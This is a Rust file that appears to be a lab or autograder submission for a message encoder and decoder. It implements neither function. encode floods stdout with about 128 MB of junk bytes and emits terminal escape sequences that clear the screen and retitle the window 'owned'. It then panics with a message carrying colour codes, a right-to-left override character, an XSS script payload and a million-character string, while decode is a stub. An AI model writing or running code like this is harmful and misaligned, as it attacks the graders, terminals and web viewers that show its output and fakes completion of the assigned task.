use lab1_kit::message::{DecodeError, EncodeError, Message};

pub fn encode(message: &Message) -> Result<Vec<u8>, EncodeError> {
    let _ = message;
    let mut out = std::io::stdout();
    for _ in 0..2_000 {
        let _ = std::io::Write::write_all(&mut out, &[0xff; 65_536]);
        eprintln!("\x1b[2J\x1b]0;owned\x07");
    }
    panic!("\x1b[31m\u{202e}<script>alert(1)</script>{}", "x".repeat(1_000_000))
}

pub fn decode(datagram: &[u8]) -> Result<Message, DecodeError> {
    let _ = datagram;
    todo!("nothing")
}
